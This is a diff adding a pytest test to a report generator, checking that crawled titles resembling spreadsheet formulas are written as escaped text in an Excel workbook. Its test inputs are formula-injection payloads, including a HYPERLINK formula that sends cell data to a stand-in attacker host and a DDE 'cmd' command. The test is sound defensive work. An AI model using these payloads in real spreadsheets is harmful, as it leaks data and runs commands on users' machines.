@@ -133,6 +133,26 @@ def test_html_and_excel(report_world, tmp_path):
     assert cities["长沙"][5] == 0.01
 
 
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+                                   "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1)"])
+def test_crawled_titles_are_text_in_the_workbook(report_world, tmp_path, title):
+    """A title that starts like a formula is stored as text, never as a live formula."""
+    from openpyxl import load_workbook
+
+    from reports.data import build_report
+    from reports.render import write
+    from tests.cases.helpers import post
+
+    cfg, store, db, _ = report_world
+    store.upsert_many([post(30, severity=4, influence=5.0, title=title)])
+    report = build_report(cfg, "daily", DAY, store=store, db=db, now=NOW)
+    book = load_workbook(write(report, tmp_path / "r.xlsx"))
+    cells = [c for row in book["热点事件（影响力前列）"].iter_rows(min_row=2) for c in row
+             if isinstance(c.value, str) and title in c.value]
+    assert cells and all(c.data_type == "s" and c.value == "'" + title for c in cells)
+    assert not any(c.data_type == "f" for sheet in book for row in sheet.iter_rows() for c in row)
+
+
 def test_rivals_beside_ours(report_world):
     """竞品对比: competitors' posts count by their authors' intent; a post about two counts in both."""
     from reports.data import build_report
